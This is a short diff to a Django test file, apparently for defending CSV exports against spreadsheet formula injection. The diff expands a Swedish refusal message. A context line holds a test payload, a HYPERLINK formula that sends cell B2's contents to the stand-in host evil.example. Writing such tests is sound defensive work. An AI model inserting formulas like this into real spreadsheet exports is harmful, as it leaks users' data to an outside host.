@@ -19,7 +19,7 @@ from tests.partnership.test_views_kansli import create_form, errors_next_to
 pytestmark = pytest.mark.django_db
 
 EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"Klicka här")'
-REFUSAL = "Får inte börja med =, +, -, @, tabb eller radbrytning."
+REFUSAL = "Får inte börja med =, +, -, @, tabb eller radbrytning (kalkylprogram läser det som en formel)."
 
 
 def _csv_cells(response) -> list[list[str]]:
